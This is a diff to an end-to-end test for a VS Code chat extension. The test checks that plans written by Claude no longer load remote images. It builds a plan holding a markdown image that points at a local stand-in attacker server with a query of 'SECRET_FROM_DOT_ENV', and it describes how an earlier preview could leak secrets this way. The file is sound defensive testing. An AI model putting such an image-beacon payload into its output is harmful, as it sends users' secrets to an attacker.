@@ -2,6 +2,12 @@
 // scripted model: the answer is given in VS Code's own quick pick / notification, reaches the
 // model, and the panel shows it. One code-server for the file; the scenarios share one chat.
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { createServer } from 'node:https';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { useVsCode, waitFor } from './support';
 
 const tools = (steps: unknown) => `SCENARIO:tools:${JSON.stringify(steps)}`;
@@ -74,40 +80,61 @@ describe('e2e: questions and plans answered in native UI', function () {
     assert.equal(await vs.webview.locator('.entry.card.tool-askuserquestion').last().locator('button.reopen-prompt').count(), 0);
   });
 
-  it('a plan: the panel mode picker sets plan, the plan opens as a markdown preview, Approve from its title bar leaves plan mode', async () => {
+  it('a plan: the panel mode picker sets plan, the plan opens in our own webview and a remote image in it loads nothing, Approve from its title bar leaves plan mode', async () => {
     await vs.webview.locator('[data-action="pick-mode"]').click();
     await row('plan').waitFor({ timeout: 15_000 });
     await row('plan').click();
     await vs.webview.locator('[data-action="pick-mode"]', { hasText: 'plan' }).waitFor({ timeout: 15_000 });
 
-    const plan = '# Rename the helper\n\n1. Rename `foo` to `bar`\n2. Update the callers';
-    await vs.send(tools([[{ name: 'ExitPlanMode', input: { plan } }]]));
-    // The plan's own document, rendered by VS Code's markdown preview.
-    await vs.page.locator('.tabs-container .tab', { hasText: "Claude's plan" }).first().waitFor({ timeout: 60_000 });
-    const toast = vs.toast('Claude has a plan');
-    await toast.waitFor({ timeout: 30_000 });
-    await waitFor(
-      'the rendered plan in the markdown preview',
-      async () => {
-        for (const f of vs.page.frames()) {
-          // The preview's headings carry source lines (data-line); the panel's plan card has none.
-          const h1 = await f.evaluate(() => (globalThis as unknown as { document: { querySelector(s: string): { textContent: string | null } | null } }).document.querySelector('h1[data-line]')?.textContent ?? '').catch(() => '');
-          if (h1 === 'Rename the helper') return true;
-        }
-        return false;
-      },
-      30_000,
-      500,
-    );
-    await shot('plan-review');
-    // Approved from the plan's document: its title bar opens VS Code's quick pick, which decides.
+    // The attacker's image (issue 21): VS Code's markdown preview, which showed plans before,
+    // loads https: images at once, so a plan could carry a secret out before the user answered.
+    const attacker = await startAttacker();
+    try {
+      const image = `${attacker.url}/pixel.png?d=SECRET_FROM_DOT_ENV`;
+      const plan = `# Rename the helper\n\n1. Rename \`foo\` to \`bar\`\n2. Update the callers\n\n![diagram](${image})\n\nSee [the docs](https://example.com/docs).`;
+      await vs.send(tools([[{ name: 'ExitPlanMode', input: { plan } }]]));
+      await vs.page.locator('.tabs-container .tab', { hasText: "Claude's plan" }).first().waitFor({ timeout: 60_000 });
+      const toast = vs.toast('Claude has a plan');
+      await toast.waitFor({ timeout: 30_000 });
+      // The rendered plan: a frame (not the chat panel's) with the plan's heading.
+      const frame = await waitFor(
+        'the rendered plan',
+        async () => {
+          for (const f of vs.page.frames()) {
+            const found = await f
+              .evaluate(`!document.querySelector('textarea.prompt-input') && [...document.querySelectorAll('h1')].some((h) => h.textContent === 'Rename the helper')`)
+              .catch(() => false);
+            if (found) return f;
+          }
+          return undefined;
+        },
+        30_000,
+        500,
+      );
+      await shot('plan-review');
+      // The page has loaded (its heading is there): an image would have been asked for by now.
+      assert.equal(attacker.requests.length, 0, `the plan loaded nothing from the attacker (${JSON.stringify(attacker.requests)})`);
+      // Reads as a plan: heading, numbered steps with code, the image as a link to its address.
+      assert.deepEqual(await frame.evaluate(`[...document.querySelectorAll('ol li')].map((li) => li.textContent)`), ['Rename foo to bar', 'Update the callers']);
+      assert.equal(await frame.evaluate(`document.querySelectorAll('img').length`), 0);
+      assert.deepEqual(await frame.evaluate(`[...document.querySelectorAll('a.image-link')].map((a) => [a.textContent, a.getAttribute('href')])`), [['[image: diagram]', image]]);
+
+      // The stand-in attacker is reachable from this browser: its silence above means something.
+      const probe = await vs.context.newPage();
+      await probe.goto(image).catch(() => undefined);
+      await probe.close();
+      assert.ok(attacker.requests.some((u) => u.startsWith('/pixel.png?d=')), `the control request reached the stand-in attacker (${JSON.stringify(attacker.requests)})`);
+    } finally {
+      await attacker.close();
+    }
+    // Approved from the plan's tab: its title bar opens VS Code's quick pick, which decides.
     await vs.page.locator('.editor-actions .action-label[aria-label^="Review Claude\'s Plan"]').first().click();
     await row('Leave plan mode; ask before each edit').waitFor({ timeout: 15_000 });
     await row('Leave plan mode; ask before each edit').click();
     await quickPick().waitFor({ state: 'hidden', timeout: 10_000 });
-    // The preview is a second webview; close it so the panel's frame is the only one.
+    // The plan is a second webview; close it so the panel's frame is the only one.
     await vs.palette('View: Close All Editors');
-    await waitFor('the preview to close', async () => (await vs.page.locator('iframe.webview.ready').count()) === 1, 15_000);
+    await waitFor('the plan to close', async () => (await vs.page.locator('iframe.webview.ready').count()) === 1, 15_000);
 
     const card = vs.webview.locator('.entry.card.tool-exitplanmode');
     await vs.webview.locator('.entry.card.tool-exitplanmode.state-done').waitFor({ timeout: 60_000 });
@@ -119,3 +146,25 @@ describe('e2e: questions and plans answered in native UI', function () {
     await shot('plan-approved');
   });
 });
+
+/**
+ * A local HTTPS server standing in for an attacker's: it counts the requests it gets. HTTPS with a
+ * throwaway self-signed certificate, because that is what a markdown preview's CSP lets through
+ * (the browser is told to accept the certificate: see ignoreHTTPSErrors in ./support).
+ */
+async function startAttacker(): Promise<{ url: string; requests: string[]; close(): Promise<void> }> {
+  const dir = mkdtempSync(join(tmpdir(), 'cc-attacker-'));
+  try {
+    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem')], { stdio: 'ignore' });
+    const requests: string[] = [];
+    const server = createServer({ key: readFileSync(join(dir, 'key.pem')), cert: readFileSync(join(dir, 'cert.pem')) }, (req, res) => {
+      requests.push(req.url ?? '');
+      res.writeHead(200, { 'content-type': 'image/gif' }).end(Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64'));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const { port } = server.address() as AddressInfo;
+    return { url: `https://127.0.0.1:${port}`, requests, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
